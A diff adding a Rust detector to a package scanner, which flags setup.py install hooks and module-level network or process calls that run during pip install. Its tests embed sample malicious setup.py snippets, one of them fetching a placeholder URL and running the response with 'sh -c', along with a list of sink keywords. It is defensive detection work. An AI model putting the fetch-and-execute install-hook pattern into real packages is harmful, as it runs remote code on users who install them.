@@ -1,0 +1,241 @@
+//! `execution.install-hook`: `setup.py` runs code during installation — a
+//! `cmdclass` override of `install`/`develop`/`egg_info`/`build_py`/`bdist_*`,
+//! or module-level network or process work (module level runs on every
+//! `pip install` of an sdist, before anything can be reviewed).
+//!
+//! Severity: a bare hook is Medium; module-level process Medium (`git describe`
+//! is common); module-level network High; network or process/exec *inside* a hook, or
+//! module-level network plus process, Critical. Must not: report process or
+//! network use outside setup.py (other detectors do).
+
+use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
+use super::sinks::{self, SinkKind};
+use crate::model::{Category, Severity};
+use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, TextFile};
+use regex::Regex;
+use std::sync::LazyLock;
+
+pub static META: DetectorMeta = DetectorMeta {
+    id: "execution.install-hook",
+    title: "Runs code at install time.",
+    category: Category::Execution,
+    severity: Severity::Medium,
+    description: "setup.py command overrides and module-level code run during pip install with the installing user's rights, before any review.",
+};
+
+static HOOK_CLASS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?m)^class\s+(?P<name>\w+)\s*\((?P<bases>[^)]*(?-u:\b)(?P<cmd>_?(?:install|develop|egg_info|build_py|bdist_wheel|bdist_egg|sdist|install_lib|install_scripts))(?-u:\b)[^)]*)\)\s*:").expect("hook class")
+});
+static TOP_BLOCK: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?m)^(?:async\s+def|def|class|@)").expect("top block"));
+
+/// Byte ranges of top-level `def`/`class` blocks (decorators included).
+fn top_blocks(src: &Source<'_>) -> Vec<(usize, usize)> {
+    let t = src.text;
+    let starts: Vec<usize> = TOP_BLOCK
+        .find_iter(t)
+        .map(|m| m.start())
+        .filter(|&o| src.is_code(o))
+        .collect();
+    let mut out = Vec::new();
+    for &s in &starts {
+        // The block ends at the next column-0 code line.
+        let mut end = t.len();
+        let mut pos = t[s..].find('\n').map_or(t.len(), |p| s + p + 1);
+        while pos < t.len() {
+            let c = t.as_bytes()[pos];
+            if !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'#' | b')' | b']' | b'}')
+                && src.is_code(pos)
+            {
+                end = pos;
+                break;
+            }
+            pos = t[pos..].find('\n').map_or(t.len(), |p| pos + p + 1);
+        }
+        if out.last().is_none_or(|&(_, e)| s >= e) {
+            out.push((s, end));
+        }
+    }
+    out
+}
+
+pub struct InstallHook;
+
+pub fn is_setup_py(path: &str) -> bool {
+    path.rsplit(['/', '!']).next() == Some("setup.py")
+}
+
+impl Detector for InstallHook {
+    fn meta(&self) -> &'static DetectorMeta {
+        &META
+    }
+    fn literals(&self) -> &'static [&'static str] {
+        &[
+            "cmdclass",
+            "subprocess",
+            "os.system",
+            "os.popen",
+            "urlopen",
+            "urlretrieve",
+            "requests",
+            "socket",
+            "http.client",
+            "httpx",
+            "urllib",
+        ]
+    }
+    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
+        if !file.is_python || !is_setup_py(file.path) {
+            return;
+        }
+        let src = Source::new(file);
+        let blocks = top_blocks(&src);
+        let all = sinks::find(
+            &src,
+            &[
+                SinkKind::Fetch,
+                SinkKind::Send,
+                SinkKind::Process,
+                SinkKind::Exec,
+            ],
+        );
+        let mut n = 0;
+        let mut push = |hits: &mut Hits, off: usize, ind: String, sev: Severity| {
+            if n < MAX_HITS_PER_FILE {
+                n += 1;
+                hits.push(
+                    &META,
+                    Hit {
+                        severity: Some(sev),
+                        evidence: pysrc::evidence(file, off, ind),
+                    },
+                );
+            }
+        };
+        let has_cmdclass = file
+            .text
+            .match_indices("cmdclass")
+            .any(|(i, _)| src.is_code(i));
+        if has_cmdclass {
+            for c in HOOK_CLASS.captures_iter(file.text) {
+                let m = c.get(0).expect("m");
+                if !src.is_code(m.start()) {
+                    continue;
+                }
+                let cmd = c.name("cmd").expect("cmd").as_str().trim_start_matches('_');
+                let end = blocks
+                    .iter()
+                    .find(|b| b.0 <= m.start() && m.start() < b.1)
+                    .map_or(file.text.len(), |b| b.1);
+                let inside: Vec<_> = all
+                    .iter()
+                    .filter(|s| s.offset > m.start() && s.offset < end)
+                    .collect();
+                if inside.is_empty() {
+                    push(hits, m.start(), format!("cmdclass {cmd}"), Severity::Medium);
+                } else {
+                    for s in inside {
+                        push(
+                            hits,
+                            s.offset,
+                            format!("{cmd} hook: {}", s.name),
+                            Severity::Critical,
+                        );
+                    }
+                }
+            }
+        }
+        let module_level = |o: usize| !blocks.iter().any(|b| b.0 <= o && o < b.1);
+        let top: Vec<_> = all
+            .iter()
+            .filter(|s| s.kind != SinkKind::Exec && module_level(s.offset))
+            .collect();
+        let net = top
+            .iter()
+            .any(|s| matches!(s.kind, SinkKind::Fetch | SinkKind::Send));
+        let proc_ = top.iter().any(|s| s.kind == SinkKind::Process);
+        for s in top {
+            let sev = match (net && proc_, s.kind) {
+                (true, _) => Severity::Critical,
+                (false, SinkKind::Process) => Severity::Medium,
+                _ => Severity::High,
+            };
+            push(hits, s.offset, format!("module-level {}", s.name), sev);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::FileRole::*;
+    use crate::scan::detectors::testutil::table;
+    use Severity::*;
+
+    const BARE: &str = "from setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        print('thanks')\n\nsetup(name='x', cmdclass={'install': PostInstall})\n";
+    const EVIL: &str = "import os\nfrom setuptools.command.install import install\nclass Evil(install):\n    def run(self):\n        os.system('id')\n        install.run(self)\nsetup(cmdclass={'install': Evil})\n";
+    const TOP_NET: &str =
+        "import urllib.request\nurllib.request.urlopen('http://example.org/x')\nsetup(name='x')\n";
+    const BOTH: &str = "import subprocess, requests\nr = requests.get(U)\nsubprocess.call(['sh', '-c', r.text])\nsetup()\n";
+    const GIT: &str = "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe'])\nsetup(version=version())\n";
+
+    #[test]
+    fn cases() {
+        table(
+            &InstallHook,
+            META.id,
+            &[
+                (
+                    "bare hook",
+                    "pkg-1.0/setup.py",
+                    InstallTime,
+                    BARE,
+                    Some((4, "cmdclass install", Medium)),
+                ),
+                (
+                    "hook with process",
+                    "setup.py",
+                    InstallTime,
+                    EVIL,
+                    Some((5, "install hook: os.system", Critical)),
+                ),
+                (
+                    "module-level network",
+                    "setup.py",
+                    InstallTime,
+                    TOP_NET,
+                    Some((2, "module-level urllib.request.urlopen", High)),
+                ),
+                (
+                    "module-level network and process",
+                    "setup.py",
+                    InstallTime,
+                    BOTH,
+                    Some((2, "module-level requests.get", Critical)),
+                ),
+                (
+                    "git describe in a function",
+                    "setup.py",
+                    InstallTime,
+                    GIT,
+                    None,
+                ),
+                (
+                    "hook class without cmdclass",
+                    "setup.py",
+                    InstallTime,
+                    "class X(install):\n    pass\n",
+                    None,
+                ),
+                ("not setup.py", "pkg/install.py", Runtime, EVIL, None),
+                (
+                    "cmdclass in a comment only",
+                    "setup.py",
+                    InstallTime,
+                    "# cmdclass\nclass X(install):\n    pass\n",
+                    None,
+                ),
+            ],
+        );
+    }
+}
